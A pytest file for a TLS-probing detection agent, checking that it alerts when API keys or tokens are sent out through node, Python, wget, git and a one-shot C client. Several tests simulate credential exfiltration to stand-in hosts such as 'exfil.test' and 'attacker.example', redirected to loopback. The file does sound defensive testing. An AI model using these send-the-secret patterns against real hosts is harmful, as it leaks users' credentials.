"""TLS stacks beyond the system libssl, and attach on exec (issue 5, part A).

node carries OpenSSL linked into its own executable; a virtualenv or wheel can bring its own
libssl; a process may live a few ms. Each test: the agent scoped to the test cgroup, the client
inside it, a loopback HTTPS server that proves the bytes arrived, then the alert a user reads.
Names reach 127.0.0.1 inside the client only (its resolver is replaced), so SNI is the name.
"""

import base64
import json
import re
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from kharness import env
from kharness.servers import sha256

ALERT_TIMEOUT = 5.0
NODE = Path("/usr/bin/node")
ATTACH_RE = re.compile(r"TLS probes on (\S+) \((\w+)\) active ([0-9.]+) ms after pid (\d+) exec'd")


def _by(provider=None, host=None, comm=None, pid=None):
    def predicate(alert):
        secret, dest, proc = (alert.get(k) or {} for k in ("secret", "destination", "process"))
        return ((provider is None or secret.get("provider") == provider) and
                (host is None or dest.get("host") == host) and
                (comm is None or proc.get("comm") == comm) and
                (pid is None or proc.get("pid") == pid))
    return predicate


def _node_fetch(node: Path, server, scratch: Path, name: str, key: str) -> list[str]:
    headers, body = scratch / "node-headers.json", scratch / "node-body.json"
    headers.write_text(json.dumps({"Authorization": f"Bearer {key}",
                                   "Content-Type": "application/json"}))
    body.write_text(json.dumps({"model": "x", "messages": []}))
    return [str(node), str(env.CLIENTS / "node_fetch.js"), name, str(server.port),
            "/v1/chat/completions", str(headers), str(body)]


def _python_client(pki, server, scratch, name, key) -> list[str]:
    (scratch / "body.json").write_bytes(json.dumps({"api_key": key}).encode())
    (scratch / "headers.json").write_text("{}")
    return [env.PYTHON, str(env.CLIENTS / "https_client.py"), "--mode", "urllib", "--name", name,
            "--port", str(server.port), "--cafile", str(pki.ca), "--path", "/v1/messages",
            "--headers-file", str(scratch / "headers.json"),
            "--body-file", str(scratch / "body.json")]


def _attach_line(agent, path: Path, timeout: float = 5.0):
    """The agent's 'TLS probes on <path> ... active N ms after pid P exec'd' line, parsed."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for m in ATTACH_RE.finditer(agent.log_text()):
            if m.group(1) == str(path):
                return m
        time.sleep(0.1)
    return None


@pytest.fixture
def node():
    if not NODE.exists():
        pytest.skip("no /usr/bin/node on this host")
    return NODE


def test_node_fetch_with_openssl_in_the_executable_alerts(
        agent, clients, https_server, pki, registry, scratch, node):
    # /usr/bin/node is hooked by the start-up scan: OpenSSL is inside the node binary itself.
    assert re.search(r"TLS probes on /usr/bin/node \(OpenSSL\)", agent.log_text()), (
        agent.diagnostics())
    key = registry.new("openai")
    result = clients.run(_node_fetch(node, https_server, scratch, "exfil.test", key),
                         env={"NODE_EXTRA_CA_CERTS": str(pki.ca)})
    assert result.stdout.strip() == "status 200"
    [req] = https_server.wait_for_requests(1)
    assert (req.sni, req.header_digests.get("authorization")) == (
        "exfil.test", sha256(f"Bearer {key}"))

    alerts = agent.wait_for_alerts(_by(provider="openai", comm="node"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for node fetch\n{agent.diagnostics()}"
    # The name is the SNI node's OpenSSL sent (SSL_ctrl), never the Host header. node writes
    # through a memory BIO (libuv sends later), so its SSL object never names a socket: the
    # address and port come from the socket whose ClientHello carried the same name.
    destination = alerts[0]["destination"]
    assert destination["host"] == "exfil.test"
    assert (destination["ip"], destination["port"]) == ("127.0.0.1", https_server.port), (
        destination)
    assert alerts[0]["process"]["pid"] == result.pid


def test_new_executable_is_hooked_at_its_first_exec(
        agent, clients, https_server, pki, registry, scratch, node):
    # A node the start-up scan never saw (new inode, outside the scanned dirs), as an npm
    # package's bundled runtime would be.
    bindir = scratch / "vendor" / "bin"
    bindir.mkdir(parents=True)
    fresh = bindir / "node"
    shutil.copy2(node, fresh)
    started = time.monotonic()
    clients.run([str(fresh), "-e", "setTimeout(() => {}, 300)"])
    attach = _attach_line(agent, fresh)
    assert attach, f"{fresh} not hooked after its exec\n{agent.diagnostics()}"
    exec_to_active_ms = float(attach.group(3))
    print(f"\nexec to probes active for a new 95 MB node executable: {exec_to_active_ms:.1f} ms "
          f"(test saw the log line {1000 * (time.monotonic() - started):.0f} ms after starting it)")
    assert exec_to_active_ms < 2000

    key = registry.new("openai")
    result = clients.run(_node_fetch(fresh, https_server, scratch, "exfil.test", key),
                         env={"NODE_EXTRA_CA_CERTS": str(pki.ca)})
    https_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(_by(provider="openai", host="exfil.test", pid=result.pid),
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert from the newly hooked node\n{agent.diagnostics()}"
    # Hooked once: a second exec of the same inode attaches nothing more.
    assert len([m for m in ATTACH_RE.finditer(agent.log_text()) if m.group(1) == str(fresh)]) == 1


def test_python_with_a_virtualenv_libssl_alerts(
        agent, clients, https_server, pki, registry, scratch):
    # A libssl copy in a private directory, loaded through LD_LIBRARY_PATH as a virtualenv or a
    # wheel's bundled OpenSSL would be: not the system library the agent hooked at start.
    system = subprocess.run([env.PYTHON, "-c", "import _ssl; print(_ssl.__file__)"],
                            capture_output=True, text=True, check=True).stdout.strip()
    ldd = subprocess.run(["ldd", system], capture_output=True, text=True, check=True).stdout
    m = re.search(r"libssl\.so\.3 => (\S+)", ldd)
    if not m:
        pytest.skip(f"python's _ssl does not link libssl.so.3 dynamically: {ldd}")
    venv_lib = scratch / "venv" / "lib"
    venv_lib.mkdir(parents=True)
    shutil.copy2(m.group(1), venv_lib / "libssl.so.3")
    (scratch / "venv").chmod(0o755)
    venv_env = {"LD_LIBRARY_PATH": str(venv_lib)}
    # Its first process maps the copy; the agent finds it in /proc/<pid>/maps.
    clients.run([env.PYTHON, "-c", "import ssl, time; time.sleep(0.5)"], env=venv_env)
    attach = _attach_line(agent, venv_lib / "libssl.so.3")
    assert attach, f"virtualenv libssl not hooked\n{agent.diagnostics()}"

    key = registry.new("anthropic")
    result = clients.run(_python_client(pki, https_server, scratch, "attacker.example", key),
                         env=venv_env)
    assert result.stdout.strip() == "status 200"
    https_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(_by(provider="anthropic", host="attacker.example",
                                       pid=result.pid), timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert through the virtualenv libssl\n{agent.diagnostics()}"


def test_process_living_under_50ms_with_the_key_in_its_first_write_alerts(
        agent, clients, https_server, registry, scratch):
    # A sender built here: connect, handshake, the key in its first and only SSL_write, exit
    # without reading the answer. Every run must alert, by its own pid. Its lifetime is mostly
    # the loopback server's handshake: under 50 ms on an idle machine, more on a loaded one, so
    # the lifetimes are printed (and the shortest one named in a failure).
    sender = scratch / "oneshot_tls"
    subprocess.run(["cc", "-O2", "-o", str(sender), str(env.CLIENTS / "oneshot_tls.c"), "-lssl",
                    "-lcrypto"], check=True)
    runs = []
    for attempt in range(5):
        key = registry.new("openai")
        request = scratch / f"request{attempt}"
        request.write_text(f"POST /v1 HTTP/1.1\r\nHost: exfil.test\r\n"
                           f"Authorization: Bearer {key}\r\nContent-Length: 0\r\n\r\n")
        argv = ["sh", "-c", f'exec "$0" exfil.test {https_server.port} < "$1"', str(sender),
                str(request)]
        t0 = time.monotonic()
        result = clients.run(argv)
        runs.append((1000 * (time.monotonic() - t0), result))
    print("\nshort-lived senders, fork to exit (ms): " +
          ", ".join(f"{ms:.1f} (main {r.stdout.strip()})" for ms, r in runs))
    for lived_ms, result in sorted(runs, key=lambda run: run[0]):
        alerts = agent.wait_for_alerts(_by(provider="openai", pid=result.pid),
                                       timeout=ALERT_TIMEOUT)
        assert alerts, f"no alert for a {lived_ms:.0f} ms process\n{agent.diagnostics()}"
        assert alerts[0]["destination"]["host"] == "exfil.test"
        assert alerts[0]["process"]["comm"] == "oneshot_tls"


def test_check_names_the_stacks_it_cannot_hook(agent_binary, cgroup):
    out = subprocess.run([str(agent_binary), "--check", "--cgroup", str(cgroup.path), "--rules",
                          str(env.DEFAULT_RULES)], capture_output=True, text=True, timeout=60,
                         stdin=subprocess.DEVNULL)
    text = out.stdout + out.stderr
    assert re.search(r"TLS Java JSSE:.*not hookable", text), text
    assert re.search(r"TLS rustls:.*not hookable.*covered by provenance", text), text
    assert re.search(r"TLS Java JSSE:.*covered by provenance", text), text
    assert re.search(r"TLS in executables:\s+yes", text), text
    assert re.search(r"TLS in Go executables:\s+yes.*gopclntab", text), text


def _with_hosts(scratch: Path, name: str, argv: list[str]) -> list[str]:
    """argv run with `name` -> 127.0.0.1 in a private /etc/hosts (its own mount namespace: the
    host's file is never touched), for clients that have no --resolve."""
    hosts = scratch / "hosts"
    hosts.write_text(f"127.0.0.1 localhost {name}\n")
    script = 'mount --bind "$0" /etc/hosts && exec "$@"'
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, str(hosts),
            *argv]


def test_wget_over_gnutls_alerts(agent, clients, https_server, pki, registry, scratch):
    # Debian's wget speaks TLS through GnuTLS (gnutls_record_send), not OpenSSL.
    key = registry.new("anthropic")
    body = scratch / "wget-body.json"
    body.write_text(json.dumps({"key": key}))
    clients.run(_with_hosts(scratch, "exfil.test", [
        "wget", "-q", "-O", "/dev/null", "--no-proxy", "--tries=1", "--timeout=15",
        f"--ca-certificate={pki.ca}", f"--post-file={body}",
        https_server.url("exfil.test", "/v1/messages")]))
    [req] = https_server.wait_for_requests(1)
    assert req.sni == "exfil.test" and req.body_sha256 == sha256(body.read_bytes())

    alerts = agent.wait_for_alerts(_by(provider="anthropic", comm="wget"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for wget (GnuTLS)\n{agent.diagnostics()}"
    assert alerts[0]["destination"]["host"] == "exfil.test"
    assert alerts[0]["secret"]["found_in"] == "tls-write", alerts[0]["secret"]


def test_git_over_https_with_a_token_in_basic_auth_alerts(
        agent, clients, https_server, pki, registry, scratch):
    # What actions/checkout leaves in .git/config: an extraheader with Basic auth of
    # "x-access-token:<token>", base64-coded. git's https helper uses libcurl-gnutls here.
    token = registry.new("github-pat")
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    result = clients.run([
        "git", "-c", f"http.extraHeader=Authorization: Basic {basic}",
        "-c", f"http.sslCAInfo={pki.ca}",
        "-c", f"http.curloptResolve=exfil.test:{https_server.port}:127.0.0.1",
        "-c", "http.proxy=", "ls-remote",
        https_server.url("exfil.test", "/acme/app.git")], check=False,
        env={"GIT_TERMINAL_PROMPT": "0", "HOME": str(scratch)})
    reqs = https_server.wait_for_requests(1)
    assert reqs[0].sni == "exfil.test", result.stderr

    alerts = agent.wait_for_alerts(_by(provider="github", host="exfil.test"),
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for git's Basic auth token\n{agent.diagnostics()}"
    assert alerts[0]["process"]["comm"].startswith("git"), alerts[0]["process"]
    assert "base64" in alerts[0]["evidence"]["decoding"], alerts[0]["evidence"]
